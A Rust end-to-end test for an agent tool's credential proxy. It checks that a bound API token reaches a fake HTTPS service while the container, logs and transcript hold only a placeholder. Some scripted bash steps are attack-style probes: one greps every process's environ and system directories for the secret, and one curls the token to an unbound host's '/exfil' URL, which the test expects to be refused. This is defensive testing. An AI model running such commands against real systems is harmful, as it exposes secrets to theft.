//! Service credentials end to end, in a real container: the owner stores a secret with
//! `claw secret set` and binds it with `claw group set --credential`; the agent's `bash` tool runs
//! curl, Python and (when the image has it) Node against a fake HTTPS API on loopback that has
//! its own test CA (trusted by the proxy through `proxy.extra_ca_file`). The API receives the real
//! token; the container's environment, files and `/proc/*/environ`, the tool results sent to the
//! model, the transcript, the logs and the outbox hold only the placeholder. The placeholder sent
//! where it does not belong is refused, and clients that pin another CA fail closed.

#[path = "support/e2e.rs"]
mod e2e;
#[path = "support/fake_https.rs"]
mod fake_https;
#[path = "support/fake_llm.rs"]
mod fake_llm;

use e2e::Env;
use fake_https::FakeHttps;
use fake_llm::{FakeLlm, Reply};
use serde_json::json;
use std::path::Path;
use std::time::Duration;

const REAL: &str = "ghp-REAL-e2e-7Qx";

fn grep_tree(dir: &Path, needle: &str, hits: &mut Vec<String>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    for e in rd.flatten() {
        let p = e.path();
        let Ok(meta) = std::fs::symlink_metadata(&p) else {
            continue;
        };
        if meta.is_dir() {
            grep_tree(&p, needle, hits);
        } else if meta.is_file()
            && std::fs::read(&p)
                .is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle.as_bytes()))
        {
            hits.push(p.display().to_string());
        }
    }
}

#[test]
fn bound_credential_reaches_the_api_from_curl_python_and_node_but_never_the_container() {
    let api = FakeHttps::start("127.0.0.1");
    let other = FakeHttps::start("127.0.0.2");
    let llm = FakeLlm::start();
    let mut env = Env::new();
    let ca_file = env.dir.path().join("api-test-ca.pem");
    std::fs::write(&ca_file, &api.ca_pem).unwrap();
    env.anthropic_base = llm.url();
    env.openai_base = llm.url();
    env.timeout_secs = 180;
    env.extra_config = format!(
        "[model]\nname = \"fake-model\"\n[proxy]\nextra_ca_file = \"{}\"\n",
        ca_file.display()
    );
    env.write_config();
    env.set_secret("ANTHROPIC_API_KEY", "sk-ant-e2e-key");
    env.claw()
        .args(["secret", "set", "fake"])
        .write_stdin(format!("{REAL}\n"))
        .assert()
        .success();
    let listed = env
        .claw()
        .args(["secret", "list", "--json"])
        .output()
        .unwrap();
    let listed = String::from_utf8_lossy(&listed.stdout).into_owned();
    assert!(
        listed.contains("\"fake\"") && !listed.contains(REAL),
        "{listed}"
    );
    let api_host = format!("127.0.0.1:{}", api.port);
    let other_host = format!("127.0.0.2:{}", other.port);
    env.claw()
        .args([
            "group",
            "set",
            "main",
            "--egress",
            &api_host,
            "--egress",
            &other_host,
        ])
        .args(["--credential", "fake=127.0.0.1:Authorization:Bearer"])
        .assert()
        .success();
    // The API's own CA, as a client that pins the real service's CA would hold it.
    std::fs::write(env.group_dir("main").join("pinned.pem"), &api.ca_pem).unwrap();

    let url = format!("https://{api_host}");
    let steps = [
        format!(
            r#"echo "token=$FAKE_TOKEN"; curl -sS -H "Authorization: Bearer $FAKE_TOKEN" {url}/curl"#
        ),
        format!(
            r#"python3 -c "import os, urllib.request as u; r = u.Request('{url}/python', headers={{'Authorization': 'Bearer ' + os.environ['FAKE_TOKEN']}}); print(u.urlopen(r).read().decode())""#
        ),
        format!(
            r#"if ! command -v node >/dev/null; then echo NODE-ABSENT; exit 0; fi
node -e '
const http = require("http"), tls = require("tls");
const p = new URL(process.env.HTTPS_PROXY);
http.request({{host: p.hostname, port: p.port, method: "CONNECT", path: "{api_host}"}}).on("connect", (res, sock) => {{
  const s = tls.connect({{socket: sock, host: "127.0.0.1"}}, () => s.write("GET /node HTTP/1.1\r\nHost: {api_host}\r\nAuthorization: Bearer " + process.env.FAKE_TOKEN + "\r\nConnection: close\r\n\r\n"));
  let d = ""; s.on("data", c => d += c); s.on("end", () => console.log("NODE:" + d.split("\r\n\r\n")[1]));
  s.on("error", e => console.log("NODE-ERR " + e.message));
}}).end();'"#
        ),
        // What the container can find: environment, every process's environ, files it can read.
        format!(
            r#"N="{a}""{b}"; echo "env-hits=$(env | grep -c "$N")"; echo "proc-hits=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -c "$N")"; echo "file-hits=$(grep -rls "$N" /workspace /home /run /tmp /etc /usr/local 2>/dev/null | wc -l)"; echo "bundle=$SSL_CERT_FILE"; grep -c 'claw per-install CA' /etc/ssl/certs/ca-certificates.crt || true"#,
            // Split so the command itself (which the transcript keeps) never holds the value.
            a = &REAL[..8],
            b = &REAL[8..]
        ),
        // Misplaced placeholders: another header, plain HTTP to the bound host, plain HTTP to an unbound host.
        format!(
            r#"curl -sS -o /dev/null -w 'other-header=%{{http_code}}\n' -H "X-Leak: $FAKE_TOKEN" {url}/leak; curl -sS -o /dev/null -w 'plain-bound=%{{http_code}}\n' -H "Authorization: Bearer $FAKE_TOKEN" http://{api_host}/plain; curl -sS -o /dev/null -w 'plain-unbound=%{{http_code}}\n' -H "Authorization: Bearer $FAKE_TOKEN" "http://{other_host}/exfil?t=$FAKE_TOKEN""#
        ),
        // Clients that do not trust the claw CA: pinned to the service's own CA. They must fail.
        format!(
            r#"curl -sS --cacert /workspace/group/pinned.pem -H "Authorization: Bearer $FAKE_TOKEN" {url}/pinned-curl; echo "curl-pinned-exit=$?"; python3 -c "import os, ssl, urllib.request as u; c = ssl.create_default_context(cafile='/workspace/group/pinned.pem'); u.urlopen(u.Request('{url}/pinned-py', headers={{'Authorization': 'Bearer ' + os.environ['FAKE_TOKEN']}}), context=c)" 2>&1 | tail -1; echo "py-pinned-exit=${{PIPESTATUS[0]}}""#
        ),
    ];
    for s in &steps {
        llm.push(Reply::tool("bash", json!({"command": s})));
    }
    // claw-agent's own web_fetch trusts the run's bundle too, so a bound host answers it.
    llm.push(Reply::tool(
        "web_fetch",
        json!({"url": format!("{url}/webfetch")}),
    ));
    llm.push(Reply::text("done with the API"));
    env.say("cli:local", "use the fake API");
    env.claw().args(["dispatch", "--wait"]).assert().success();
    let reqs = llm.wait_for(steps.len() + 2, Duration::from_secs(120));
    assert_eq!(reqs.len(), steps.len() + 2, "logs:\n{}", env.all_logs());
    let result = |i: usize| -> String {
        let msgs = reqs[i + 1].body["messages"].as_array().unwrap();
        msgs.last().unwrap()["content"][0]["content"]
            .as_str()
            .unwrap_or("")
            .to_string()
    };
    let outputs: Vec<String> = (0..=steps.len()).map(result).collect();
    let all = outputs.join("\n---\n");
    println!("tool results:\n{all}");

    // The API got the real token from each client, and the clients saw its replies.
    let seen = api.requests();
    let auth_of = |path: &str| {
        seen.iter()
            .find(|r| r.path == path)
            .and_then(|r| r.header("authorization").map(str::to_string))
    };
    assert!(
        outputs[0].contains("token=claw-placeholder-fake-"),
        "{}",
        outputs[0]
    );
    assert!(outputs[0].contains(r#""path":"/curl""#), "{}", outputs[0]);
    assert_eq!(
        auth_of("/curl").as_deref(),
        Some(&*format!("Bearer {REAL}"))
    );
    assert!(outputs[1].contains(r#""path":"/python""#), "{}", outputs[1]);
    assert_eq!(
        auth_of("/python").as_deref(),
        Some(&*format!("Bearer {REAL}"))
    );
    if outputs[2].contains("NODE-ABSENT") {
        println!(
            "node is not in image {}: Node client not tested",
            e2e::image()
        );
    } else {
        assert!(
            outputs[2].contains(r#"NODE:{"ok":true,"method":"GET","path":"/node"}"#),
            "{}",
            outputs[2]
        );
        assert_eq!(
            auth_of("/node").as_deref(),
            Some(&*format!("Bearer {REAL}"))
        );
    }
    // Inside the container: placeholder only, and the trust store holds the claw CA.
    assert!(outputs[3].contains("env-hits=0"), "{}", outputs[3]);
    assert!(outputs[3].contains("proc-hits=0"), "{}", outputs[3]);
    assert!(outputs[3].contains("file-hits=0"), "{}", outputs[3]);
    assert!(
        outputs[3].contains("bundle=/run/claw/ca-bundle.pem"),
        "{}",
        outputs[3]
    );
    assert!(
        outputs[3].contains("ca-bundle.pem\n1\n"),
        "system store lacks the claw CA: {}",
        outputs[3]
    );
    // Misplaced placeholders are refused.
    for want in ["other-header=403", "plain-bound=403", "plain-unbound=403"] {
        assert!(outputs[4].contains(want), "{want}: {}", outputs[4]);
    }
    // Pinned clients fail closed: TLS verification errors, non-zero exits.
    assert!(!outputs[5].contains("curl-pinned-exit=0"), "{}", outputs[5]);
    assert!(
        outputs[5].contains("CERTIFICATE_VERIFY_FAILED"),
        "{}",
        outputs[5]
    );
    assert!(!outputs[5].contains("py-pinned-exit=0"), "{}", outputs[5]);
    for p in ["/leak", "/plain", "/pinned-curl", "/pinned-py"] {
        assert!(seen.iter().all(|r| r.path != p), "{p} reached the API");
    }
    assert!(
        other.requests().is_empty(),
        "the unbound host got a request"
    );

    // Nowhere the agent or the owner reads is the value: model requests, transcript and
    // session files, logs, outbox.
    assert!(!all.contains(REAL));
    assert!(reqs.iter().all(|r| !r.text().contains(REAL)));
    let mut hits = vec![];
    for d in ["sessions", "groups", "ipc", "logs", "run"] {
        grep_tree(&env.root.join(d), REAL, &mut hits);
    }
    assert!(hits.is_empty(), "the real value is in {hits:?}");
    let mut ph = vec![];
    grep_tree(
        &env.root.join("sessions"),
        "claw-placeholder-fake-",
        &mut ph,
    );
    assert!(!ph.is_empty(), "the transcript should hold the placeholder");
    assert!(env.outbox("cli:local").iter().all(|t| !t.contains(REAL)));

    // Audit: substitutions (name and host, never the value) and refusals.
    let used = env.audit("credential.used");
    let n_used: i64 = used.iter().map(|d| d["count"].as_i64().unwrap_or(1)).sum();
    let expect_used = if outputs[2].contains("NODE-ABSENT") {
        2
    } else {
        3
    };
    assert_eq!(n_used, expect_used, "{used:?}");
    assert!(
        used.iter()
            .all(|d| d["credentials"] == json!(["fake"]) && d["host"] == "127.0.0.1")
    );
    let refused = env.audit("credential.refused");
    let n_refused: i64 = refused
        .iter()
        .map(|d| d["count"].as_i64().unwrap_or(1))
        .sum();
    assert_eq!(n_refused, 3, "{refused:?}");
    let audit_text = format!("{used:?}{refused:?}");
    assert!(!audit_text.contains(REAL));
    assert_eq!(env.last_run("main").0, "succeeded");
}
